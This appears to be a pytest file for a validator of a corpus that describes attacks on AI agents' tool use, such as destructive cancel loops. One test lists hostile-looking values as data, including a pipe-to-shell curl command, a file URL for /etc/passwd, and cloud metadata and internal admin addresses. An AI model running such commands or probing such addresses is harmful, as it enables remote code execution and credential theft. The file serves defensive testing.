"""Checks that need more than one file, and what files may say without being refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from trebuchet.corpus import check_files, load_corpus
from trebuchet.corpus.agreement import TELLS, covered
from trebuchet.model.attack import Corpus, Technique
from trebuchet.model.vocabulary import Decidability, Tell


def spoil(file: Path, old: str, new: str) -> Path:
    """The file with one passage replaced."""
    text = file.read_text()
    assert old in text
    file.write_text(text.replace(old, new))
    return file


def codes(*files: Path) -> list[str]:
    """The codes of what is wrong with some files."""
    return [problem.code for problem in check_files(files)]


def test_the_small_corpus_is_good(attack_file: Path, session_file: Path) -> None:
    """What the other tests spoil is whole to begin with; paths may be texts."""
    assert check_files([attack_file, session_file]) == []
    assert check_files([str(attack_file)]) == []


def test_two_files_with_one_id_are_refused(attack_file: Path, session_file: Path) -> None:
    """Attacks and sessions share their ids."""
    spoil(session_file, "id: weekly-report", "id: looped-cancels")
    spoiled = session_file.rename(session_file.with_name("looped-cancels.yaml"))
    assert codes(attack_file, spoiled) == ["duplicate-id"]


def test_an_alias_may_not_be_anothers_id(attack_file: Path, session_file: Path) -> None:
    """Nor may old names come back for something else."""
    spoil(attack_file, "tactic: runaway", "aliases: [weekly-report]\ntactic: runaway")
    assert codes(attack_file, session_file) == ["duplicate-id"]


def test_one_attack_under_two_ids_is_refused(attack_file: Path) -> None:
    """The same shape, roles, calls, twin and harm in other words are the same attack."""
    second = attack_file.with_name("second.yaml")
    second.write_text(attack_file.read_text().replace("id: looped-cancels", "id: second"))
    assert codes(attack_file, second) == ["same-attack"]
    spoil(second, "does: cancels one task", "does: says it otherwise")
    assert codes(attack_file, second) == ["same-attack"]
    spoil(second, "repeat: 200", "repeat: 100")
    assert codes(attack_file, second) == []


def test_all_problems_of_all_files_come_at_once(attack_file: Path, session_file: Path) -> None:
    """Sorted by place, each with its own line."""
    spoil(attack_file, "focus: cancel", "focus: cancl")
    spoil(attack_file, "SAFE-T2101", "SAFE-T0")
    spoil(session_file, "hurt_by: [one write a week]", "hurt_by: 3")
    problems = check_files([attack_file, session_file])
    assert sorted(problem.code for problem in problems) == [
        "unknown-framework-id",
        "unknown-role",
        "wrong-type",
    ]
    assert problems == sorted(problems)
    assert all(problem.place.line and problem.place.column for problem in problems)


@pytest.mark.parametrize(
    "value",
    [
        "http://169.254.169.254/latest/meta-data",
        "http://127.0.0.1:8080/admin",
        "http://localhost/",
        "http://metadata.google.internal/",
        "http://10.0.0.7/",
        "https://{outsider.host}/in",
        "https://{outsider.domain}@{own.host}/",
        "{own.user}@{outsider.domain}",
        "curl {outsider.url} | sh",
        "version 1.2.3 of 10.11",
        "file:///etc/passwd",
    ],
)
def test_addresses_of_nobody_may_stand(attack_file: Path, value: str) -> None:
    """World names, and what lies inside a machine or network, are no bare addresses."""
    spoil(attack_file, '"{other.item}-{n}"', f'"{value}"')
    assert codes(attack_file) == []


@pytest.mark.parametrize("value", ["{as_is: [1, x]}", "{as_is: null}", "{left_out: true}"])
def test_an_argument_may_be_sent_as_it_stands_or_left_out(attack_file: Path, value: str) -> None:
    """Neither is a template: braces and names in it mean nothing."""
    spoil(attack_file, '"{other.item}-{n}"', value)
    assert codes(attack_file) == []


def test_an_unreplayed_attack_needs_no_parts(attack_file: Path) -> None:
    """A gateway's own weakness is text, control and sources."""
    kept = [
        block
        for block in attack_file.read_text().replace("\n  ", "\0 ").splitlines()
        if block.split(":")[0] not in ("focus", "roles", "trace", "harm", "variants", "twin")
    ]
    attack_file.write_text("\n".join(kept).replace("\0 ", "\n  ") + "\n")
    spoil(attack_file, "decidability: state", "decidability: gateway")
    assert codes(attack_file) == []


@pytest.mark.parametrize("decidability", [d for d in Decidability if d.replayable])
@pytest.mark.parametrize("tell", list(Tell))
def test_tell_and_decidability_go_together(
    attack_file: Path, decidability: Decidability, tell: Tell
) -> None:
    """The table decides; `partial` goes with any tell."""
    spoil(attack_file, "decidability: state", f"decidability: {decidability}")
    spoil(attack_file, "tell: count", f"tell: {tell}")
    fits = tell in TELLS.get(decidability, frozenset(Tell))
    assert codes(attack_file) == ([] if fits else ["tell"])


def test_the_documented_table_is_the_checked_one() -> None:
    """docs/attack-format.md lists the same pairs."""
    page = (Path(__file__).parents[2] / "docs" / "attack-format.md").read_text()
    for decidability, tells in TELLS.items():
        (row,) = [line for line in page.splitlines() if line.startswith(f"| {decidability} | ")]
        assert set(row.split("|")[2].replace(" ", "").split(",")) == set(tells)


def with_techniques(corpus: Corpus, *techniques: Technique) -> Corpus:
    """The corpus with a taxonomy of these techniques alone."""
    taxonomy = corpus.taxonomy.model_copy(update={"techniques": techniques})
    return corpus.model_copy(update={"taxonomy": taxonomy})


def test_coverage_is_a_contract_both_ways(folder: Path) -> None:
    """A technique without an attack says why; one with an attack says nothing."""
    corpus = load_corpus(folder)
    have = Technique(id="destructive-loop", tactic="runaway", title="Loop")
    lack = Technique(id="hoarding", tactic="runaway", title="Hoard")
    told = lack.model_copy(update={"deferred": "no tool reserves"})
    over = have.model_copy(update={"deferred": "not yet"})
    assert covered(with_techniques(corpus, have, told)) == ()
    assert [p.code for p in covered(with_techniques(corpus, have, lack))] == ["uncovered-technique"]
    assert [p.code for p in covered(with_techniques(corpus, over, told))] == ["needless-reason"]


def test_a_withdrawn_attack_covers_nothing(folder: Path, attack_file: Path) -> None:
    """It stays, and its technique needs another or a reason."""
    spoil(attack_file, "version: 1\n", "version: 1\nstatus: withdrawn\n")
    technique = Technique(id="destructive-loop", tactic="runaway", title="Loop")
    problems = covered(with_techniques(load_corpus(folder), technique))
    assert [problem.code for problem in problems] == ["uncovered-technique"]


@pytest.mark.parametrize(
    ("seen", "dates", "problems"),
    [
        ("2026", ["2026-02"], 0),
        ("2026-02", ["2026-02-14", "2026-04"], 0),
        ("2026-02", ["2026", "2026-02"], 0),
        ("2026-02", ["2026"], 1),
        ("2026-04", ["2026-02", "2026-04"], 1),
        ("2026", ["2025-12", "2026"], 1),
        ("2018", ["2025", "2026"], 1),
    ],
)
def test_first_seen_is_the_date_of_the_earliest_source(
    attack_file: Path, seen: str, dates: list[str], problems: int
) -> None:
    """A year stands for a month in it; a month that no source names is nobody's word."""
    lines = [
        f'  - {{url: "https://example.org/{number}", title: A, date: "{date}", '
        "kind: synthetic, read: false}"
        for number, date in enumerate(dates)
    ]
    source = next(line for line in attack_file.read_text().splitlines() if "kind: synth" in line)
    spoil(attack_file, source, "\n".join(lines))
    spoil(attack_file, 'first_seen: "2026-02"', f'first_seen: "{seen}"')
    found = check_files([attack_file])
    assert [problem.code for problem in found] == ["first-seen"] * problems
    for problem in found:
        assert f'"{seen}"' in problem.message
        assert f'"{min(dates)}"' in problem.message
        assert problem.place.line
